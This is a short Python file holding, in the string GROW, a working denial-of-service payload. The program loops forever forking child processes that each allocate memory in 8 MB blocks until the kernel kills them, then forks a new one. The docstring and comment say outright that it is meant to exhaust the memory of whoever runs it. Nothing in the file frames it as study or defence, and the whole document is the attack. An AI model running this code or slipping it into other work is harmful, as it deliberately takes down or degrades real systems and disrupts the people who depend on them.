"""A Python program that exhausts the memory of whoever holds it."""

# the kernel kills whoever grew most, and that is the end of it: so there is always a next one
GROW = """
import os, time
while True:
    child = os.fork()
    if not child:
        kept = []
        while True:
            kept.append(bytearray(8 << 20))
            time.sleep(0.005)
    os.waitpid(child, 0)
    time.sleep(0.5)
"""
